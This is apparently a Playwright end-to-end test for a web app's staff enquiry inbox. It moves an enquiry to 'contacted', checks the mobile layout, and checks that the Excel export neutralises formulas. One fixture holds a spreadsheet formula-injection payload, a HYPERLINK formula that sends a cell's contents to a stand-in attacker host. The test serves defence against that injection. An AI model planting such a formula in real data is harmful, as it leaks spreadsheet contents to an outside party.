"""A HEZA officer follows up an investor's enquiry in the staff inbox (issue 17, section 3), in Chromium at
1440×900: the Enquiries tab, the enquiry chosen, moved to "contacted" with a note, the message of success
and the new status in the list; then the inbox's Excel copy, where a company typed as a formula stays text.

One app server on a GeoPackage store of its own (made from geodata/), one staff account, two enquiries.
"""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from conftest import PHONE, choose_option, save_screenshot, sign_in, store_app, tab_panel

from heza_geo import i18n
from heza_geo.enquiries import Enquiry
from heza_geo.ui.inbox import when

pytest.importorskip("playwright")
from playwright.sync_api import Page, expect

PASSWORD = "mật-khẩu-thử-nghiệm-2026"
#: a month ago (the inbox deletes enquiries past their retention when it opens: a fixed date would age out)
T0 = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=30)
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"site plan")'
KIM = Enquiry(uuid="0b8f1f8e-0000-4000-8000-0000000000a1", name="Kim Min-jun", company="Hanbit Electronics",
              country="KR", email="kim@hanbit.example", sector="electronics", land_ha=12.0, timeframe="6_to_12_months",
              language="ko", message="We need 12 ha near the port.", parks=("do-son",), submitted_at=T0)
FORMULA = Enquiry(uuid="0b8f1f8e-0000-4000-8000-0000000000a2", name="Park Ji-ho", company=ATTACK,
                  email="ji@formula.example", parks=("dinh-vu",), submitted_at=T0 + timedelta(days=1))
#: how long an expectation waits for the page's answer (the staff page's run reads the store): a bound on a hang
RERUN = 30_000


def en(key: str, **params: object) -> str:
    return i18n.t(key, "en", **params)


@pytest.fixture(scope="module")
def staff(start_app, tmp_path_factory):
    url, store = store_app(start_app, tmp_path_factory.mktemp("store"), {"lan": (PASSWORD, "staff")})
    for enquiry in (KIM, FORMULA):
        store.add_enquiry(enquiry)
    return url, store


def _open_inbox(page: Page, url: str) -> None:
    sign_in(page, url, "lan", PASSWORD)
    page.get_by_text("Signed in as lan").wait_for()
    page.get_by_role("tab", name=en("inbox.tab")).click()
    expect(tab_panel(page).get_by_role("button", name=en("inbox.filter"), exact=True)).to_be_visible(timeout=RERUN)


def test_an_officer_moves_an_enquiry_to_contacted_and_downloads_the_inbox_with_formulas_neutralised(desk, staff):
    url, store = staff
    _open_inbox(desk, url)
    panel = tab_panel(desk)
    expect(panel).to_contain_text(en("inbox.count", n=2, status=en("enquiry.status.new")))
    label = f"{when(T0, 'en')} · {KIM.name} · {KIM.company}"
    choose_option(desk, panel.get_by_role("combobox", name=en("inbox.pick"), exact=True), label)
    expect(panel).to_contain_text(f"{en('enquiry.field.message')}:", timeout=RERUN)
    expect(panel).to_contain_text(KIM.message, timeout=RERUN)

    form = panel.locator('[data-testid="stForm"]').filter(has_text=en("inbox.save"))
    choose_option(desk, form.get_by_role("combobox", name=en("enquiry.field.status"), exact=True),
                  en("enquiry.status.contacted"))
    form.get_by_role("textbox", name=en("enquiry.field.note"), exact=True).fill("called, site visit on 12/5")
    desk.get_by_role("tab", name=en("inbox.tab")).evaluate("e => e.scrollIntoView({block: 'start'})")
    save_screenshot(desk, "issue17-inbox-1440")  # the counts, filters, list, the enquiry, the follow-up typed
    form.get_by_role("button", name=en("inbox.save")).click()
    expect(desk.get_by_text(en("inbox.saved", status=en("enquiry.status.contacted")))).to_be_visible(timeout=RERUN)
    saved = store.enquiry(KIM.uuid)
    assert saved.status == "contacted"
    assert [(e.kind, e.author, e.value) for e in saved.history[1:]] == [
        ("status", "lan", "contacted"), ("note", "lan", "called, site visit on 12/5")]
    expect(tab_panel(desk)).to_contain_text(en("inbox.count", n=1, status=en("enquiry.status.contacted")))
    history = tab_panel(desk).locator('[data-testid="stDataFrame"]').nth(1)
    expect(history).to_contain_text(en("inbox.event.note", note="called, site visit on 12/5"), timeout=RERUN)

    listing = tab_panel(desk).locator(".st-key-inbox_list_box")
    listing.hover()  # the table's toolbar shows, without its own CSV download (it would keep formulas)
    expect(listing.locator('[data-testid="stElementToolbarButton"]').first).to_be_visible()
    expect(listing.locator('button[aria-label^="Download"]')).to_have_count(1)  # there, and hidden
    expect(listing.locator('button[aria-label^="Download"]')).to_be_hidden()
    with desk.expect_download() as download:
        tab_panel(desk).get_by_role("button", name=en("inbox.download_xlsx", n=2)).click()
    assert download.value.suggested_filename == f"heza-enquiries-{datetime.now(UTC).date().isoformat()}.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(open(download.value.path(), "rb").read()))  # noqa: PTH123, SIM115 - Playwright's temporary file
    rows = list(book.active.iter_rows(values_only=True))
    header = rows[0]
    by_name = {row[header.index(en("enquiry.field.name"))]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_name[KIM.name][en("enquiry.field.status")] == en("enquiry.status.contacted")
    assert by_name[FORMULA.name][en("enquiry.field.company")] == "'" + ATTACK  # text, never a formula
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


def test_the_inbox_on_a_phone(browser, staff):
    url, _ = staff
    context = browser.new_context(**PHONE)
    phone = context.new_page()
    phone.set_default_timeout(30_000)
    try:
        _open_inbox(phone, url)
        expect(tab_panel(phone).get_by_text(f"{en('enquiry.field.name')}: {FORMULA.name}")).to_be_visible(timeout=RERUN)
        save_screenshot(phone, "issue17-inbox-390")
    finally:
        context.close()
